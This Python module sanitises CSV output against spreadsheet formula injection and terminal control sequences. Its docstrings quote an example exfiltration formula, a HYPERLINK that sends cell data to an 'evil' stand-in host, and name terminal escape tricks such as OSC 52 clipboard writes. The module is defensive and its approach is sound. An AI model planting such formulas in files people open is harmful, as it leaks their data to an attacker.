"""Output hygiene shared by everything that writes files for people.

- CSV only through :func:`csv_text`: ticket text is written by strangers, and
  ``=HYPERLINK("http://evil/?"&A1)`` typed into a summary would become a live formula
  in a CSV opened in Excel, LibreOffice or Google Sheets, so every cell goes through
  :func:`sheet_safe` (a leading ``'`` before ``=``, ``+``, ``-``, ``@``, tab or carriage
  return). The pulled files and the action list (``diagnose --format csv``) are the
  only CSVs written for users; ``tests/hostile/test_safe_outputs.py`` fails when a
  module other than this one starts writing CSV.
- A report's CSV (the action list) is read with ``cat`` and ``less`` as often as in a
  spreadsheet, so its cells are also made inert for a terminal (``inert=True``): control
  characters (escape sequences, OSC 52 clipboard writes, BEL, bidi overrides) and line
  breaks are shown as ``\\x1b``-style escapes, as the terminal report shows them. The
  pulled files keep the text as the tool returned it (they are exports, read back by the
  importers), formula-escaped only.
- The sample writers in :mod:`itsm_diag.writers` are the exception on purpose: they
  imitate what ServiceNow, Jira, Zendesk and Freshservice export, byte for byte, so the
  importers are tested against real-looking files.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

#: a cell starting with one of these runs as a formula when a spreadsheet opens the file
_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def sheet_safe(value: object) -> str:
    """A cell as text a spreadsheet shows as text: ``'`` before a leading ``= + - @``
    (OWASP's CSV-injection advice; ticket text such as ``=HYPERLINK(...)`` would
    otherwise run when the file is opened in Excel). Blank for None."""
    if value is None:
        return ""
    text = str(value)
    return "'" + text if text.startswith(_FORMULA) else text


def inert_cell(value: object) -> str:
    """:func:`sheet_safe` of ``value`` with its control characters and line breaks shown
    as escapes first: nothing in it acts on a terminal, and no cell starts a line of its
    own (a fake row under ``cat``)."""
    if value is None:
        return ""
    from itsm_diag.text import shown

    return sheet_safe(shown(value, one_line=True))


def csv_text(header: list[str], rows: Iterable[list[object]], *, inert: bool = False) -> str:
    """A CSV's text: every cell, the header's too, through :func:`sheet_safe`; with
    ``inert`` (a report's CSV), through :func:`inert_cell`."""
    cell = inert_cell if inert else sheet_safe
    buf = io.StringIO()
    out = csv.writer(buf, lineterminator="\n")
    out.writerow([cell(h) for h in header])
    out.writerows([cell(v) for v in row] for row in rows)
    return buf.getvalue()
